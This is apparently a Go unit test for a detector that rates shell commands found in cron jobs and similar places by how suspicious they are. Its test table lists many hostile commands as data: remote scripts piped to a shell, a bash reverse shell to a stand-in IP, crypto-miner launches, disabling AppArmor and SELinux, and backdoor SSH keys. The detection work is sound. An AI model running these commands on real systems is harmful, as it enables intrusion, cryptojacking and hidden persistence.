package persist

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestAnalyzeCommand(t *testing.T) {
	tests := []struct {
		cmd  string
		sev  Severity
		refs []string
	}{
		// work32 / kinsing style
		{cmd: "wget -q -O - http://x/y.sh | sh", sev: Critical},
		{cmd: "(curl -fsSL http://203.0.113.9/b.sh||wget -q -O- http://203.0.113.9/b.sh)|bash >/dev/null 2>&1 &", sev: Critical},
		{cmd: "/tmp/.X11-unix/.work32 >/dev/null 2>&1", sev: High, refs: []string{"/tmp/.X11-unix/.work32"}},
		{cmd: "/tmp/kdevtmpfsi", sev: High, refs: []string{"/tmp/kdevtmpfsi"}},
		{cmd: "echo Y3VybCBodHRwOi8veC95LnNofHNo | base64 -d | bash", sev: Critical},
		{cmd: `bash -c "$(curl -fsSL http://x/i.sh)"`, sev: Critical},
		{cmd: "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", sev: Critical},
		{cmd: "/dev/shm/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1 &", sev: Critical, refs: []string{"/dev/shm/.x/xmrig"}},
		{cmd: "./sys -o pool.supportxmr.com:443 -u 4ABC", sev: Critical},
		{cmd: "chattr +i /etc/crontab", sev: High, refs: []string{"/etc/crontab"}},
		{cmd: "systemctl stop apparmor; systemctl disable apparmor", sev: High},
		{cmd: "setenforce 0 2>/dev/null", sev: High},
		{cmd: "history -c", sev: High},
		{cmd: "(crontab -l; echo '* * * * * /tmp/x') | crontab -", sev: High, refs: []string{"/tmp/x"}},
		{cmd: "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", sev: High},
		{cmd: "wget http://198.51.100.7/x -O /var/tmp/x; chmod +x /var/tmp/x; /var/tmp/x", sev: High, refs: []string{"/var/tmp/x"}},
		{cmd: "/usr/lib/.libsystem/update", sev: High, refs: []string{"/usr/lib/.libsystem/update"}},
		{cmd: "pkill -f kdevtmpfsi", sev: Medium},
		// what actually runs, behind wrappers, lists and interpreters
		{cmd: "nohup /tmp/.x/y >/dev/null 2>&1 &", sev: High, refs: []string{"/tmp/.x/y"}},
		{cmd: "env LD_PRELOAD=/tmp/.l.so /usr/bin/sleep infinity", sev: High},
		{cmd: "LD_PRELOAD=/dev/shm/.l.so /usr/bin/true", sev: High},
		{cmd: "sudo -u www-data /var/tmp/.w/w", sev: High},
		{cmd: "nice -n 19 /dev/shm/m", sev: High},
		{cmd: "timeout 3600 /tmp/x --daemon", sev: High},
		{cmd: "setsid /var/tmp/.a/a", sev: High},
		{cmd: "/bin/sh -c '/tmp/.x/y'", sev: High},
		{cmd: `su -c "/tmp/.s/s" nobody`, sev: High},
		{cmd: "bash /tmp/.x/run.sh", sev: High},
		{cmd: "python3 -u /dev/shm/.p.py", sev: High},
		{cmd: "perl /var/tmp/x.pl", sev: High},
		{cmd: "cd /tmp && /tmp/.x/y", sev: High},
		{cmd: "tar xzf /tmp/a.tgz -C /tmp || true; /tmp/.x/y", sev: High},
		{cmd: "echo $(/tmp/.x/y)", sev: High},
		{cmd: ". /tmp/.env", sev: High},
		{cmd: "test -x /tmp/.x/y && /tmp/.x/y", sev: High},
		{cmd: "if [ -f /tmp/.k ]; then /tmp/.k; fi", sev: High},
		{cmd: "cat /etc/hosts | /dev/shm/f", sev: High},
		{cmd: "start-stop-daemon --start --background --exec /var/tmp/.d/d", sev: High},
		{cmd: "cd /var/tmp/.xmr && ./xmrig -c config.json", sev: Critical, refs: []string{"/var/tmp/.xmr", "/var/tmp/.xmr/xmrig"}},
		{cmd: "cd /dev/shm; sh .s", sev: High},
		{cmd: "screen -dmS miner /tmp/.m/m", sev: High},
		{cmd: "find /etc -name x -exec /tmp/.x/y {} \\;", sev: High},
		{cmd: "xargs -n1 /var/tmp/.q/q < /etc/hosts", sev: High},
		{cmd: "tmux new-session -d '/dev/shm/.t/t -B'", sev: High},
		{cmd: "export PATH=/tmp/.bin:$PATH", sev: Medium},
		{cmd: `PATH="$HOME/.local/bin:$HOME/bin:$PATH"`, sev: Info},
		{cmd: "cd / && ./usr/local/bin/job", sev: Info},
		{cmd: `python3 -c "import os; os.system('/tmp/.x/y')"`, sev: High},
		{cmd: `python3 -c "print(open('/etc/hostname').read())"`, sev: Info},
		{cmd: `case "$f" in /tmp/*|/var/tmp/*) rm -f "$f" ;; esac`, sev: Info},
		// paths that are only arguments are data, not "runs from"
		{cmd: "tar czf /var/tmp/etc.tgz /etc", sev: Info, refs: []string{"/var/tmp/etc.tgz", "/etc"}},
		{cmd: "rm -rf /tmp/.cache/old", sev: Info, refs: []string{"/tmp/.cache/old"}},
		{cmd: "hdparm -S 120 /dev/sdb", sev: Info},
		{cmd: "dd if=/dev/sda of=/var/tmp/disk.img bs=1M", sev: Info},
		{cmd: "/usr/sbin/ebsnvme-id -u /dev/%k", sev: Info},
		{cmd: "/sbin/blkid -o udev -p /dev/%k", sev: Info},
		{cmd: "cp -a /etc/passwd /tmp/.backup/passwd 2>/dev/null", sev: Info},
		{cmd: "find /tmp -name '.*' -mtime +7 -delete", sev: Info},
		{cmd: "/usr/bin/flock -n /var/lock/.backup.lock /usr/local/bin/backup", sev: Info},
		{cmd: "/usr/bin/logger -f /var/tmp/.app.log", sev: Info},
		// stock
		{cmd: "cd / && run-parts --report /etc/cron.hourly", sev: Info, refs: []string{"/etc/cron.hourly"}},
		{cmd: "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", sev: Info, refs: []string{"/usr/sbin/anacron", "/etc/cron.daily"}},
		{cmd: "test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", sev: Info, refs: []string{"/run/systemd/system", "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron"}},
		{cmd: `[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"`, sev: Info, refs: []string{"/usr/bin/lesspipe", "/bin/sh"}},
		{cmd: `test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"`, sev: Info},
		{cmd: "/usr/sbin/sshd -D $SSHD_OPTS", sev: Info, refs: []string{"/usr/sbin/sshd"}},
		{cmd: "/bin/kill -HUP $MAINPID", sev: Info, refs: []string{"/bin/kill"}},
		{cmd: `"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null`, sev: Low, refs: []string{"/root/.acme.sh/acme.sh", "/root/.acme.sh"}},
		{cmd: `curl --connect-timeout "$WAIT" --max-time "$WAIT" -A "$USER_AGENT" -o- "$u" >"$NEWS" 2>"$ERRORS"`, sev: Info},
		{cmd: "HISTSIZE=1000", sev: Info},
		{cmd: "# * * * * * curl http://x | sh", sev: Info},
	}
	for _, tt := range tests {
		v := analyzeCommand(tt.cmd)
		if v.sev != tt.sev {
			t.Errorf("analyzeCommand(%q) severity = %v (%v), want %v", tt.cmd, v.sev, v.reasons, tt.sev)
		}
		if diff := cmp.Diff(tt.refs, v.refs); tt.refs != nil && diff != "" {
			t.Errorf("refs(%q) (-want +got):\n%s", tt.cmd, diff)
		}
	}
}
